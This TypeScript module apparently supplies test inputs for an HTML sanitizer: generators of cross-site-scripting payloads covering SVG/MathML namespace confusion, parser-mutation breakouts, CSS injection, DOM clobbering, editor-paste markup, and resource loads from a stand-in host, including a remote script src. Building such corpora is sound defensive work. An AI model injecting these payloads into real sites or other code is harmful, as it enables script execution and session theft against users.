/** Markup that changes its meaning when it is parsed again, or that loads something from another host. */

const host = "canary.invalid";

const namespaces = (run: string): string[] => {
  const image = `<img src=x onerror=${run}>`;
  return [
    `<svg><script>${run}</script></svg>`,
    `<svg><script href=data:,${run} /></svg>`,
    `<svg><desc><style><a title="</style>${image}"></desc></svg>`,
    `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#x"/></svg>`,
    `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>x</text></a></svg>`,
    `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x><text y=20>x</text></a></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
    `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${run}</x:script></svg>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
    `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<svg><![CDATA[><image xlink:href="]]>${image}//"></svg>`,
    `<svg><title><${"/title"}>${image}</title></svg>`,
  ];
};

const mutations = (run: string): string[] => {
  const image = `<img src=x onerror=${run}>`;
  const coded = image.replaceAll("<", "&lt;").replaceAll(">", "&gt;");
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${coded}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<math></p><style><!--</style><img alt="--><${image}">`,
    `<noscript><p title="</noscript>${image}">`,
    `<noembed><p title="</noembed>${image}">`,
    `<noframes><p title="</noframes>${image}">`,
    `<xmp><p title="</xmp>${image}">`,
    `<textarea><p title="</textarea>${image}">`,
    `<title><p title="</title>${image}">`,
    `<style><p title="</style>${image}">`,
    `<iframe><p title="</iframe>${image}">`,
    `<plaintext>${image}`,
    `<template><style></template>${image}</style>`,
    `<svg><style><!--</style>${image}-->`,
    `<svg><style>&lt;/style&gt;${coded}</style></svg>`,
    `<math><mi><style><${image}</style></mi></math>`,
    `<a title="<!--">x</a>${coded}<a title="-->${image}">`,
    `<!--<a href="--><img src=x onerror=${run}//">`,
    `<!-->${image}-->`,
    `<!--->${image}-->`,
    `<! foo="><script>${run}</script>">`,
    `</ foo="><script>${run}</script>">`,
    `<? foo="><script>${run}</script>">`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<p><svg><p><style><g title="</style>${image}">`,
    `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style>${image}"></style></svg></caption></table>`,
    `${"<div>".repeat(300)}<svg><style></div>${image}`,
    `${"<form><div>".repeat(20)}<math><mtext></form><mglyph><svg><mtext><style><a title="</style>${image}">`,
    `<select><template><style><!--</template><a rel="--></style></template></select>${image}">`,
    `<img alt="\`><script>${run}</script>" src=x>`,
    `<img """><script>${run}</script>">`,
    `<a href="x" title='"><img src=x onerror=${run}>'>x</a>`,
    `<div id="1&quot;&gt;${coded}">x</div>`,
    `<b <script>${run}</script>0`,
    `<x <y onclick="${run}"><img src=x onerror=${run} //`,
    `<img src=x onerror=${run}`,
    `<script>${run}`,
    `<img src="x\`onerror=${run}//">`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<dl><dt><svg><p></dl><style><!--</style>${image}`,
    `<ruby><rtc><math><mtext><style></ruby>${image}`,
  ];
};

const styles = (run: string): string[] => [
  `<style>@import 'javascript:${run}';</style>`,
  `<style>@import url(https://${host}/import.css);</style>`,
  `<style>*{background:url(https://${host}/all.png)}</style>`,
  `<p style="background:url(https://${host}/style.png)">x</p>`,
  `<p style="background:url('javascript:${run}')">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="behavior:url(#default#time2)" onbegin="${run}">x</p>`,
  `<p style="-moz-binding:url(https://${host}/x.xml#x)">x</p>`,
  `<p style="text-align:center;background:url(//${host}/after.png)">x</p>`,
  `<p style="text-align:left/*;*/;list-style:url(//${host}/comment.png)">x</p>`,
  `<p style="content:'</style><img src=x onerror=${run}>'">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999" onmouseover=${run}>x</p>`,
  `<div style="animation-name:x" onanimationstart="${run}">x</div>`,
];

const loads = (run: string): string[] => [
  `<img src="https://${host}/image.png">`,
  `<img srcset="https://${host}/set.png 1x">`,
  `<img src="//${host}/relative.png" loading="eager">`,
  `<img src="\\\\${host}\\back.png">`,
  `<img src="/\\${host}/mixed.png">`,
  `<img src="ht\ntps://${host}/line.png">`,
  `<input type=image src="https://${host}/input.png">`,
  `<body background="https://${host}/body.png">`,
  `<table background="https://${host}/table.png"><tr><td background="https://${host}/td.png">x</table>`,
  `<video poster="https://${host}/poster.png"></video>`,
  `<audio src="https://${host}/audio.mp3" autoplay></audio>`,
  `<link rel=stylesheet href="https://${host}/link.css">`,
  `<link rel=prefetch href="https://${host}/prefetch">`,
  `<iframe src="https://${host}/frame"></iframe>`,
  `<object data="https://${host}/object"></object>`,
  `<embed src="https://${host}/embed">`,
  `<svg><image href="https://${host}/svg.png"/></svg>`,
  `<svg><use href="https://${host}/use.svg#x"/></svg>`,
  `<svg><feImage href="https://${host}/fe.png"/></svg>`,
  `<script src="https://${host}/${run}.js"></script>`,
  `<base href="https://${host}/"><img src="based.png">`,
  `<a href="/x" ping="https://${host}/ping" attributionsrc="https://${host}/source">x</a>`,
  `<picture><source srcset="https://${host}/picture.png"><img src=x></picture>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
];

const clobbering = (run: string): string[] => [
  `<form id=location><input name=href value=javascript:${run}></form>`,
  `<img name=getElementById><a id=token href=javascript:${run}>x</a>`,
  `<a id=defaultView><a id=defaultView name=pwn href=x>`,
  `<form name=attributes><input name=attributes><img src=x onerror=${run}>`,
  `<form onclick=${run}><input name=nodeName><input name=parentNode></form>`,
  `<p class="mantine-Modal-root" data-autofocus onfocus=${run} tabindex=0>x</p>`,
  `<p data-mantine-color-scheme=dark id=root>x</p><div id=root></div>`,
];

const editor = (run: string): string[] => [
  `<a class="link" href="javascript:${run}" data-type="link">x</a>`,
  `<p data-pm-slice='0 0 []'><img src=x onerror=${run}></p>`,
  `<ul data-type="taskList"><li data-checked="true" onclick="${run}">x</li></ul>`,
  `<div data-youtube-video><iframe src="javascript:${run}"></iframe></div>`,
  `<span data-type="mention" data-id='"><img src=x onerror=${run}>'>x</span>`,
  `<pre><code class='language-"><img src=x onerror=${run}>'>x</code></pre>`,
  `<h2 style="text-align:center" onclick="${run}">x</h2>`,
  `<blockquote cite="javascript:${run}">x</blockquote>`,
  `<meta charset=utf-8><!--StartFragment--><b onclick=${run}>x</b><!--EndFragment-->`,
  `<o:p onclick=${run}>x</o:p><w:sdt><script>${run}</script></w:sdt>`,
];

/** Kinds of markup, each with the maker of its texts. */
export const markupTricks: [string, (run: string) => string[]][] = [
  ["svg and mathml", namespaces],
  ["mutation", mutations],
  ["css", styles],
  ["load from elsewhere", loads],
  ["clobbering", clobbering],
  ["editor and paste", editor],
];
